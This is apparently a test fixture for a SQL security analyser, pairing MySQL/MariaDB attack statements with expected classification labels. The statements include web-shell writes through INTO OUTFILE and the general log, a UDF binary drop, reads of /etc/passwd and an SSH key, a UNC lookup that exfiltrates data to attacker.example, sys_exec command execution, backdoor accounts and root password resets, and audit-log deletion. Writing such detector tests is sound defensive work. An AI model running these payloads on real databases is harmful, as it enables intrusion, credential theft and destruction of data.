-- What an attacker does with a MySQL/MariaDB connection: write files (INTO
-- OUTFILE/DUMPFILE, the general log), read files (LOAD_FILE, LOAD DATA),
-- load code (UDFs, plugins), read credentials (mysql.user and friends),
-- create and promote accounts, and take the server down or over.

-- @case myp_outfile_table
-- @expect op=SELECT classes=outfile objects=users
SELECT * FROM users INTO OUTFILE '/var/lib/mysql-files/users.csv' FIELDS TERMINATED BY ','

-- @case myp_outfile_webshell
-- @expect op=SELECT classes=outfile objects=
SELECT '<?php system($_GET["c"]); ?>' INTO OUTFILE '/var/www/html/c.php'

-- @case myp_outfile_union
-- @expect classes=outfile objects=products unions=1
SELECT name, price FROM products WHERE id = -1 UNION SELECT '<?php eval($_POST[0]); ?>', NULL INTO OUTFILE '/var/www/html/shell.php'

-- @case myp_dumpfile_udf
-- @expect op=SELECT classes=outfile
SELECT 0x7f454c4602010100000000000000000003003e00 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'

-- @case myp_outfile_lines
-- @expect op=SELECT classes=outfile objects=users
SELECT username, password_hash FROM users INTO OUTFILE '/tmp/p.txt' LINES TERMINATED BY 0x3c3f70687020706870696e666f28293b203f3e

-- @case myp_outfile_before_from
-- @expect op=SELECT classes=outfile objects=users
SELECT username INTO OUTFILE '/tmp/u.txt' FROM users

-- @case myp_load_file
-- @expect op=SELECT functions=load_file
SELECT LOAD_FILE('/etc/passwd')

-- @case myp_load_file_hex
-- @expect functions=load_file unions=1 objects=products
SELECT name FROM products WHERE id = -1 UNION SELECT LOAD_FILE(0x2f6574632f706173737764)

-- @case myp_load_file_unc
-- @expect op=SELECT functions=load_file,concat,hex,user
SELECT LOAD_FILE(CONCAT('\\\\', (SELECT HEX(USER())), '.attacker.example\\share'))

-- @case myp_load_data
-- @expect op=LOAD classes=load_data objects=leak writes=yes
LOAD DATA INFILE '/etc/passwd' INTO TABLE leak

-- @case myp_load_data_local
-- @expect op=LOAD classes=load_data objects=leak
LOAD DATA LOCAL INFILE '/home/app/.ssh/id_rsa' INTO TABLE leak FIELDS TERMINATED BY '\n'

-- @case myp_load_data_low_priority
-- @expect op=LOAD classes=load_data objects=shop.imports
LOAD DATA LOW_PRIORITY LOCAL INFILE '/tmp/import.csv' REPLACE INTO TABLE shop.imports CHARACTER SET utf8mb4 FIELDS TERMINATED BY ',' ENCLOSED BY '"' LINES TERMINATED BY '\r\n' IGNORE 1 LINES (sku, name, @price) SET price = @price / 100

-- @case myp_load_xml
-- @expect classes=load_data objects=leak
LOAD XML LOCAL INFILE '/var/www/html/config.xml' INTO TABLE leak ROWS IDENTIFIED BY '<item>'

-- @case myp_create_udf
-- @expect op=CREATE classes=ddl,admin
CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'

-- @case myp_sys_exec
-- @expect op=SELECT functions=sys_exec
SELECT sys_exec('id > /tmp/out; chmod 777 /tmp/out')

-- @case myp_sys_eval
-- @expect op=SELECT functions=sys_eval caught=no
SELECT sys_eval('id')

-- @case myp_install_plugin
-- @expect classes=admin
INSTALL PLUGIN evil SONAME 'evil.so'

-- @case myp_uninstall_plugin
-- @expect classes=admin
UNINSTALL PLUGIN audit_log

-- @case myp_general_log_file
-- @expect op=SET classes=admin
SET GLOBAL general_log_file = '/var/www/html/shell.php'

-- @case myp_general_log_chain
-- @expect stmts=3
SET GLOBAL general_log = 'ON'; SET GLOBAL general_log_file = '/var/www/html/x.php'; SELECT '<?php system($_GET[1]); ?>'

-- @case myp_set_password
-- @expect classes=grant
SET PASSWORD FOR 'root'@'localhost' = 'owned'

-- @case myp_create_user
-- @expect op=CREATE classes=grant
CREATE USER 'evil'@'%' IDENTIFIED BY 'x'

-- @case myp_grant_all
-- @expect op=GRANT classes=grant
GRANT ALL PRIVILEGES ON *.* TO 'evil'@'%' WITH GRANT OPTION

-- @case myp_grant_file
-- @expect op=GRANT classes=grant
GRANT FILE ON *.* TO 'app'@'%'

-- @case myp_revoke
-- @expect op=GRANT classes=grant
REVOKE ALL PRIVILEGES, GRANT OPTION FROM 'auditor'@'localhost'

-- @case myp_drop_user
-- @expect op=DROP classes=grant
DROP USER 'auditor'@'localhost'

-- @case myp_alter_user
-- @expect op=ALTER classes=grant
ALTER USER 'root'@'localhost' IDENTIFIED BY 'owned'

-- @case myp_create_role
-- @expect op=CREATE classes=grant
CREATE ROLE 'dba_shadow'

-- @case myp_kill
-- @expect classes=admin
KILL 42

-- @case myp_kill_connection
-- @expect classes=admin
KILL CONNECTION 42

-- @case myp_shutdown
-- @expect classes=admin
SHUTDOWN

-- @case myp_flush_privileges
-- @expect classes=admin
FLUSH PRIVILEGES

-- @case myp_flush_logs
-- @expect classes=admin
FLUSH LOGS

-- @case myp_reset_master
-- @expect classes=admin
RESET MASTER

-- @case myp_reset_replica
-- @expect classes=admin
RESET SLAVE ALL

-- @case myp_change_master
-- @expect classes=admin
CHANGE MASTER TO MASTER_HOST='203.0.113.9', MASTER_USER='repl', MASTER_PASSWORD='x', MASTER_LOG_FILE='mysql-bin.000001', MASTER_LOG_POS=4

-- @case myp_lock_tables
-- @expect op=LOCK classes=admin objects=users,orders
LOCK TABLES users WRITE, orders READ

-- @case myp_read_mysql_user
-- @expect op=SELECT objects=mysql.user
SELECT user, host, authentication_string FROM mysql.user

-- @case myp_read_mysql_user_backticks
-- @expect op=SELECT objects=mysql.user
SELECT host, user FROM `mysql`.`user` WHERE user = 'root'

-- @case myp_read_mysql_user_case
-- @expect op=SELECT objects=mysql.user
SELECT * FROM MySQL.User

-- @case myp_update_mysql_user
-- @expect op=UPDATE objects=mysql.user where=yes
UPDATE mysql.user SET authentication_string = '' WHERE user = 'root'

-- @case myp_show_create_mysql_user
-- @expect op=SELECT objects=mysql.user
SHOW CREATE TABLE mysql.user

-- @case myp_describe_mysql_user
-- @expect op=SELECT objects=mysql.user
DESCRIBE mysql.user

-- @case myp_handler_mysql_user
-- @expect objects=mysql.user
HANDLER mysql.user OPEN

-- @case myp_table_mysql_user
-- @expect op=SELECT objects=mysql.user
TABLE mysql.user

-- @case myp_mysql_global_priv
-- @expect op=SELECT objects=mysql.global_priv functions=json_extract
SELECT User, JSON_EXTRACT(Priv, '$.authentication_string') FROM mysql.global_priv

-- @case myp_processlist
-- @expect op=SELECT objects=information_schema.processlist
SELECT * FROM information_schema.processlist WHERE command != 'Sleep'

-- @case myp_user_privileges
-- @expect op=SELECT objects=information_schema.user_privileges
SELECT grantee, privilege_type FROM information_schema.user_privileges WHERE privilege_type = 'FILE'

-- @case myp_performance_schema
-- @expect op=SELECT objects=performance_schema.events_statements_history caught=no
SELECT sql_text FROM performance_schema.events_statements_history

-- @case myp_sys_schema
-- @expect op=SELECT objects=sys.statement_analysis caught=no
SELECT query, exec_count FROM sys.statement_analysis ORDER BY exec_count DESC LIMIT 10

-- @case myp_use_mysql
-- @expect op=USE caught=no
USE mysql

-- @case myp_drop_database
-- @expect op=DROP classes=ddl
DROP DATABASE shop

-- @case myp_drop_table
-- @expect op=DROP classes=ddl objects=audit_log
DROP TABLE audit_log

-- @case myp_truncate
-- @expect op=TRUNCATE classes=ddl objects=audit_log
TRUNCATE TABLE audit_log

-- @case myp_prepare_from_string
-- @expect op=PREPARE body_op=DROP body_classes=ddl
PREPARE s FROM 'DROP TABLE users'

-- @case myp_prepare_from_var
-- @expect op=PREPARE body_unknown=yes caught=no
PREPARE s FROM @sql

-- @case myp_prepare_chain
-- @expect stmts=3 ops=SET,PREPARE,EXECUTE functions=concat
SET @s = CONCAT('DR', 'OP TABLE users'); PREPARE s FROM @s; EXECUTE s
